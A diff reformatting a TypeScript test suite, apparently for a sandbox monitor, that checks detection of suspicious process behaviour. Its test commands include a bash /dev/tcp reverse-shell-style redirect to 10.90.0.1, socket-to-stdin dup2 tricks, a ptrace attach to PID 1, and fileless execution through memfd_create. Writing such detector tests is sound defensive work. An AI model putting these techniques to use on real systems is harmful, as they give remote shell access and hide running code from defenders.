@@ -27,20 +27,26 @@ const of = (marker: string) => (event: { readonly words: readonly string[] }) =>
 
 describe('What sandboxes do', () => {
   test('a socket that leads elsewhere on standard input is seen, of dup2 and of what is started with it', async () => {
-    const connect = 'import socket,os,subprocess;l=socket.socket();l.bind(("127.0.0.1",0));l.listen();s=socket.create_connection(l.getsockname());';
+    const connect =
+      'import socket,os,subprocess;l=socket.socket();l.bind(("127.0.0.1",0));l.listen();s=socket.create_connection(l.getsockname());';
     await python(`${connect}os.dup2(s.fileno(),0)`, 'by-dup2');
     expect(await watcher.seen('stdio', of('by-dup2'))).toMatchObject({ uid: 'c1', descriptor: 0, name: 'python3' });
     await python(`${connect}subprocess.run(["/bin/true","started"],stdin=s)`);
     expect(await watcher.seen('stdio', of('started'))).toMatchObject({ descriptor: 0, program: '/bin/true' });
     // Opened in the place of what was closed: nobody duplicates anything.
-    await python('import socket,os;os.close(0);s=socket.socket();assert s.fileno()==0;s.set_inheritable(True);os.execv("/bin/true",["/bin/true","direct"])');
+    await python(
+      'import socket,os;os.close(0);s=socket.socket();assert s.fileno()==0;s.set_inheritable(True);os.execv("/bin/true",["/bin/true","direct"])',
+    );
     expect(await watcher.seen('stdio', of('direct'))).toMatchObject({ descriptor: 0 });
     await sh('exec 5<>/dev/tcp/10.90.0.1/53; cat direct-bash <&5 >&5 2>&5');
     await watcher.seen('stdio', ({ words, descriptor }) => words.includes('direct-bash') && descriptor === 2);
   });
 
   test('pipes, files and sockets of the unix family on it are ordinary', async () => {
-    await python('import socket,os;a,b=socket.socketpair();os.dup2(a.fileno(),0);r,w=os.pipe();os.dup2(r,1)', 'plumbing');
+    await python(
+      'import socket,os;a,b=socket.socketpair();os.dup2(a.fileno(),0);r,w=os.pipe();os.dup2(r,1)',
+      'plumbing',
+    );
     await sh('echo x | cat >/tmp/x; cat </tmp/x | cat');
     await python('pass', 'behind');
     await watcher.seen('exec', of('behind'));
@@ -88,17 +94,23 @@ libc.open(ctypes.c_void_p(at),0)
     expect(mount.details.join(' ')).toContain('tmpfs');
     await watcher.seen('call', ({ call, words }) => call === 'umount' && words[0] === 'umount');
     await sh('unshare --user --map-root-user --mount true');
-    expect(await watcher.seen('call', ({ call, words }) => call === 'unshare' && words[0] === 'unshare')).toMatchObject({
-      details: ['mnt', 'user'],
-    });
+    expect(await watcher.seen('call', ({ call, words }) => call === 'unshare' && words[0] === 'unshare')).toMatchObject(
+      {
+        details: ['mnt', 'user'],
+      },
+    );
     await python('import ctypes;ctypes.CDLL(None).ptrace(16, 1, 0, 0)');
     expect(await watcher.seen('call', ({ call }) => call === 'ptrace')).toMatchObject({ details: ['attach'] });
     await python('import os;os.memfd_create("hidden")');
-    expect(await watcher.seen('call', ({ call, details }) => call === 'memfd_create' && details[0] === 'hidden')).toBeDefined();
+    expect(
+      await watcher.seen('call', ({ call, details }) => call === 'memfd_create' && details[0] === 'hidden'),
+    ).toBeDefined();
   });
 
   test('a program without a name in any directory is known as such', async () => {
-    await python('import os;f=os.memfd_create("x");os.write(f,open("/bin/true","rb").read());os.execv(f"/proc/self/fd/{f}",["nameless"])');
+    await python(
+      'import os;f=os.memfd_create("x");os.write(f,open("/bin/true","rb").read());os.execv(f"/proc/self/fd/{f}",["nameless"])',
+    );
     expect(await watcher.seen('exec', of('nameless'))).toMatchObject({ isNameless: true });
   });
 
@@ -108,7 +120,9 @@ libc.open(ctypes.c_void_p(at),0)
     const init = await watcher.seen('exec', ({ uid }) => uid === 'c2');
     expect(init.words[0]).toBe('/sbin/init');
     await watcher.seen('call', ({ uid }) => uid === 'c2');
-    const before = watcher.of('call').filter(({ uid, name }) => uid === 'c2' && !name.startsWith('systemd') && name !== '(sd-');
+    const before = watcher
+      .of('call')
+      .filter(({ uid, name }) => uid === 'c2' && !name.startsWith('systemd') && name !== '(sd-');
     expect(before.filter(({ name }) => /^(?:incusd|lxc)/.test(name))).toEqual([]);
   });
 });
